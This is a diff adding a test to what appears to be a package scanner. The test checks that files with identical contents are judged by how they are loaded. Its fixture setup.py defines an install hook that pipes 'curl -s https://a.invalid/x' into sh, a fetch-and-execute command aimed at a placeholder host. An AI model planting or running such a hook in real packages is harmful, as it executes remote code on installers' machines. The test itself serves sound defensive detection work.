@@ -75,3 +75,19 @@ def test_batches_are_even() -> None:
     assert sorted(sum(len(file.data) for file in batch) for batch in split) == [910, 920]
     assert len(batches(files[:1], 4)) == 1
     assert batches((), 4) == ()
+
+
+def test_copies_are_told_apart_by_how_they_are_read() -> None:
+    """Equal contents have the same facts, but a script of the setup and declarations of types are read in their way."""
+    setup = b"import os\nclass C(install):\n    def run(self):\n        os.system('curl -s https://a.invalid/x | sh')\n"
+    files = [
+        *(PackageFile(path, _JAVASCRIPT) for path in ("a/x.js", "b/y.js", "b/y.d.ts")),
+        *(PackageFile(path, setup) for path in ("setup.py", "a/other.py")),
+    ]
+
+    found = facts_of(files)
+
+    assert found["a/x.js"] == found["b/y.js"]
+    assert found["b/y.d.ts"] == CodeFacts()
+    loads = {path: any(fact.at_load for fact in found[path].facts) for path in ("setup.py", "a/other.py")}
+    assert loads == {"setup.py": True, "a/other.py": False}
